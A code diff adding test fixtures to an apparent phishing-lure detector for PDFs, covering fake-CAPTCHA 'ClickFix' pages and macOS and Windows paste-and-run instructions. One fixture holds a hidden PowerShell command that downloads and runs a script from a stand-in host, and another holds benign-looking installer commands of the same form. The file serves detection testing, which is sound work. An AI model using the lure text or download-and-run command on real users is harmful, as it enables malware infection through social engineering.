@@ -113,6 +113,19 @@ export const LURE_FIXTURES: TechniqueFixtures = {
   "fake-protected-document": {
     "text-with-link": textPage(["PROTECTED DOCUMENT", "This file is protected by Microsoft Office 365.", "Click here to view the document"], { links: [{ url: "https://login-office365.example/auth", rect: PAGE }] }),
     "image-with-link": () => picturePageWithLink("https://secure-docs-view.web.app/adobe/view.html"),
+    // the fake-CAPTCHA page of 2024-2025 campaigns: its link leads to the ClickFix page
+    "fake-captcha-with-link": textPage(["Security check", "Verify you are human to continue", "I'm not a robot"], { links: [{ url: "https://check-7731.example/verify", rect: PAGE }] }),
+  },
+  "paste-and-run-lure": {
+    // the fake-CAPTCHA ClickFix page: the command is on the clipboard, put there by the attacker's site
+    "text-run-dialog-paste": textPage(["Verify you are human", "Complete these verification steps:", "1. Press Windows Key + R", "2. Press CTRL + V", "3. Press Enter"]),
+    "text-powershell-cradle": textPage([
+      "The document could not be displayed. To fix the font error:",
+      "Press Win+R and run the following command:",
+      'powershell -w hidden -c "iwr https://fonts-update.example/fix.ps1 | iex"',
+    ]),
+    // the macOS variant: Spotlight opens Terminal, Cmd+V pastes
+    "text-terminal-paste": textPage(["Human verification required", "Press Command + Space and type Terminal", "Press Command + V, then Return"]),
   },
   "hosted-link-lure": {
     "cloud-storage": () => picturePageWithLink("https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing"),
@@ -160,6 +173,18 @@ export const LURE_NEGATIVE_FIXTURES: Record<string, () => Uint8Array> = {
   "a report linking its data on Google Drive": textPage(["Survey results 2024", ...prose(14)], { links: [{ url: "https://drive.google.com/drive/folders/1AbCdEf", rect: [72, 120, 300, 134] }] }),
   "a 30-page lossless scan": () => multiPageScanPdf({ pages: 30 }),
   "an anti-virus manual naming the EICAR file without carrying it": textPage(["Testing your installation", "Download the EICAR-STANDARD-ANTIVIRUS-TEST-FILE from eicar.org to check detection.", ...prose(4)]),
+  "an IT guide: press Win+R, paste the share's path": textPage([
+    "Connecting to the team share",
+    "1. Copy the path \\\\fileserver01\\projects from the intranet page.",
+    "2. Press Windows + R, paste it with Ctrl + V and press Enter.",
+    "3. Sign in with your usual account when asked.",
+  ]),
+  "a developer guide's install command": textPage([
+    "Installing the command-line tools",
+    "Open PowerShell and run the installer:",
+    "powershell -c \"iwr -useb https://get.example-tools.dev/install.ps1 | iex\"",
+    "Then restart the terminal and check the version with tool --version.",
+  ]),
   "a government form's stand-in page linking to Adobe Reader": textPage(["Please wait...", "This document cannot be displayed in your PDF viewer.", "Click here to download the latest Adobe Reader"], {
     links: [{ url: "https://get.adobe.com/reader/", rect: [72, 600, 400, 640] }],
   }),
